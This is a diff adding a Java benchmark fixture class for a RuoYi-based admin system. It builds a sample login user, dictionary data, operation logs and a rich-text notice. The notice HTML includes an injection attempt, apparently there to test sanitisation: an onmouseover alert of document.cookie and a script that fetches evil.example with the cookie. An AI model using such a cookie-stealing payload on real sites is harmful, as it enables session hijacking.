@@ -0,0 +1,209 @@
+package com.ruoyi.bench.framework;
+
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.Date;
+import java.util.HashSet;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Random;
+import java.util.Set;
+import com.ruoyi.common.core.domain.entity.SysDept;
+import com.ruoyi.common.core.domain.entity.SysDictData;
+import com.ruoyi.common.core.domain.entity.SysRole;
+import com.ruoyi.common.core.domain.entity.SysUser;
+import com.ruoyi.common.core.domain.model.LoginUser;
+import com.ruoyi.system.domain.SysOperLog;
+
+/**
+ * 框架热点路径的基准数据
+ *
+ * 数据形态取自初始化脚本（sql/app-project.sql）和后台常见请求：带部门和多个角色的普通用户、
+ * 系统内置字典、富文本通知公告和操作日志。随机部分使用固定种子，各次运行的数据相同。
+ *
+ * @author ruoyi
+ */
+public class FrameworkFixtures
+{
+    /** 普通用户持有的菜单权限（后台用户一般有一两百个权限字符） */
+    private static final String[] MODULES = { "system:user", "system:role", "system:menu", "system:dept",
+            "system:post", "system:dict", "system:config", "system:notice", "monitor:operlog", "monitor:logininfor",
+            "monitor:online", "monitor:job", "app:detect", "app:device", "app:report", "app:privacy" };
+
+    private static final String[] ACTIONS = { "list", "query", "add", "edit", "remove", "export", "import",
+            "resetPwd" };
+
+    /** 字典类型、标签和值，与初始化脚本一致 */
+    private static final String[][] DICT_DATA = {
+            { "sys_user_sex", "男", "0" }, { "sys_user_sex", "女", "1" }, { "sys_user_sex", "未知", "2" },
+            { "sys_normal_disable", "正常", "0" }, { "sys_normal_disable", "停用", "1" },
+            { "sys_yes_no", "是", "Y" }, { "sys_yes_no", "否", "N" },
+            { "sys_notice_type", "通知", "1" }, { "sys_notice_type", "公告", "2" },
+            { "sys_oper_type", "其他", "0" }, { "sys_oper_type", "新增", "1" }, { "sys_oper_type", "修改", "2" },
+            { "sys_oper_type", "删除", "3" }, { "sys_oper_type", "授权", "4" }, { "sys_oper_type", "导出", "5" },
+            { "sys_oper_type", "导入", "6" }, { "sys_oper_type", "强退", "7" }, { "sys_oper_type", "生成代码", "8" },
+            { "sys_oper_type", "清空数据", "9" },
+            { "sys_common_status", "成功", "0" }, { "sys_common_status", "失败", "1" } };
+
+    /**
+     * 已登录的普通用户（非超级管理员），带部门和四个数据范围不同的角色
+     */
+    public static LoginUser loginUser()
+    {
+        SysDept dept = new SysDept();
+        dept.setDeptId(105L);
+        dept.setParentId(101L);
+        dept.setAncestors("0,100,101");
+        dept.setDeptName("测试部门");
+        dept.setLeader("若依");
+        dept.setStatus("0");
+
+        SysUser user = new SysUser(2L);
+        user.setDeptId(dept.getDeptId());
+        user.setDept(dept);
+        user.setUserName("ry");
+        user.setNickName("若依");
+        user.setEmail("ry@qq.com");
+        user.setPhonenumber("15666666666");
+        user.setSex("1");
+        user.setStatus("0");
+        user.setDelFlag("0");
+        user.setLoginIp("192.168.1.23");
+        user.setLoginDate(new Date());
+        user.setPassword("$2a$10$7JB720yubVSZvUI0rEqK/.VqGOZTH.ulu33dHOiBE8ByOhJIrdAu2");
+        user.setRoles(Arrays.asList(
+                role(2L, "普通角色", "common", "2", "system:user", "system:dept", "app:detect"),
+                role(3L, "部门经理", "manager", "4", "system:user", "system:role", "monitor:operlog"),
+                role(4L, "审计员", "auditor", "2", "monitor:operlog", "monitor:logininfor", "system:user"),
+                role(5L, "检测员", "tester", "5", "app:detect", "app:device", "app:report")));
+
+        Set<String> permissions = new HashSet<>();
+        for (String module : MODULES)
+        {
+            for (String action : ACTIONS)
+            {
+                permissions.add(module + ":" + action);
+            }
+        }
+        LoginUser loginUser = new LoginUser(user.getUserId(), user.getDeptId(), user, permissions);
+        loginUser.setLoginTime(System.currentTimeMillis());
+        return loginUser;
+    }
+
+    private static SysRole role(Long roleId, String roleName, String roleKey, String dataScope, String... modules)
+    {
+        SysRole role = new SysRole(roleId);
+        role.setRoleName(roleName);
+        role.setRoleKey(roleKey);
+        role.setRoleSort(roleId.intValue());
+        role.setDataScope(dataScope);
+        role.setStatus("0");
+        role.setDelFlag("0");
+        Set<String> permissions = new HashSet<>();
+        for (String module : modules)
+        {
+            for (String action : ACTIONS)
+            {
+                permissions.add(module + ":" + action);
+            }
+        }
+        role.setPermissions(permissions);
+        return role;
+    }
+
+    /**
+     * 系统内置字典（字典类型 -> 字典数据）
+     */
+    public static Map<String, List<SysDictData>> dictData()
+    {
+        Map<String, List<SysDictData>> dicts = new LinkedHashMap<>();
+        long code = 1;
+        for (String[] row : DICT_DATA)
+        {
+            List<SysDictData> datas = dicts.computeIfAbsent(row[0], k -> new ArrayList<>());
+            SysDictData data = new SysDictData();
+            data.setDictCode(code++);
+            data.setDictSort((long) datas.size() + 1);
+            data.setDictType(row[0]);
+            data.setDictLabel(row[1]);
+            data.setDictValue(row[2]);
+            data.setListClass(datas.isEmpty() ? "primary" : "danger");
+            data.setIsDefault(datas.isEmpty() ? "Y" : "N");
+            data.setStatus("0");
+            data.setCreateBy("admin");
+            data.setCreateTime(new Date());
+            datas.add(data);
+        }
+        return dicts;
+    }
+
+    /**
+     * 富文本编辑器提交的通知公告内容（约2000字符，含样式、图片、表格、链接和一段注入尝试）
+     */
+    public static String noticeHtml()
+    {
+        StringBuilder html = new StringBuilder();
+        html.append("<h2 style=\"text-align: center;\"><strong>关于系统升级维护的通知</strong></h2>");
+        html.append("<p style=\"text-indent: 2em;\">各位用户：为提升应用检测服务的稳定性，平台将于本周六 ");
+        html.append("<span style=\"color: rgb(230, 0, 0);\"><strong>22:00 - 24:00</strong></span> 进行升级维护，");
+        html.append("期间动态分析与报告下载功能暂停使用。</p>");
+        for (int i = 1; i <= 6; i++)
+        {
+            html.append("<p style=\"text-indent: 2em;\">").append(i).append(". 升级内容：优化第").append(i)
+                    .append("类隐私行为检测规则，新增对第三方SDK的识别，修复报告导出中的已知问题，")
+                    .append("详见<a href=\"https://example.com/release/").append(i)
+                    .append("\" target=\"_blank\" rel=\"noopener\">发布说明</a>。</p>");
+        }
+        html.append("<p><img src=\"/profile/upload/2025/10/18/notice_20251018101010A001.png\" ");
+        html.append("alt=\"维护时间表\" width=\"600\" height=\"320\"></p>");
+        html.append("<table style=\"border-collapse: collapse; width: 100%;\" border=\"1\"><tbody>");
+        html.append("<tr><th>模块</th><th>影响</th><th>恢复时间</th></tr>");
+        for (String module : new String[] { "动态分析", "静态分析", "报告中心", "设备管理" })
+        {
+            html.append("<tr><td>").append(module).append("</td><td>暂停服务</td><td>24:00</td></tr>");
+        }
+        html.append("</tbody></table>");
+        html.append("<p onmouseover=\"alert(document.cookie)\">如有疑问请联系管理员");
+        html.append("<script>fetch('https://evil.example/?c=' + document.cookie)</script></p>");
+        html.append("<p style=\"text-align: right;\">运维中心<br>2025年10月18日</p>");
+        return html.toString();
+    }
+
+    /**
+     * 操作日志（导出数据），随机但可重复
+     */
+    public static List<SysOperLog> operLogs(int count)
+    {
+        Random random = new Random(42);
+        String[] titles = { "用户管理", "角色管理", "字典数据", "通知公告", "动态分析", "设备管理" };
+        String[] methods = { "GET", "POST", "PUT", "DELETE" };
+        long now = System.currentTimeMillis();
+        List<SysOperLog> logs = new ArrayList<>(count);
+        for (int i = 0; i < count; i++)
+        {
+            SysOperLog log = new SysOperLog();
+            String title = titles[random.nextInt(titles.length)];
+            log.setOperId((long) i + 1);
+            log.setTitle(title);
+            log.setBusinessType(random.nextInt(10));
+            log.setMethod("com.ruoyi.web.controller.system.SysUserController.edit()");
+            log.setRequestMethod(methods[random.nextInt(methods.length)]);
+            log.setOperatorType(1);
+            log.setOperName(random.nextBoolean() ? "admin" : "ry");
+            log.setDeptName("研发部门");
+            log.setOperUrl("/system/user");
+            log.setOperIp("192.168.1." + random.nextInt(255));
+            log.setOperLocation("内网IP");
+            log.setOperParam("{\"userId\":" + random.nextInt(1000) + ",\"nickName\":\"" + title
+                    + "\",\"status\":\"0\",\"remark\":\"" + Long.toHexString(random.nextLong()) + "\"}");
+            log.setJsonResult("{\"msg\":\"操作成功\",\"code\":200}");
+            log.setStatus(random.nextInt(20) == 0 ? 1 : 0);
+            log.setErrorMsg(log.getStatus() == 1 ? "数据库连接超时" : null);
+            log.setOperTime(new Date(now - random.nextInt(30 * 24 * 3600) * 1000L));
+            log.setCostTime((long) random.nextInt(500));
+            logs.add(log);
+        }
+        return logs;
+    }
+}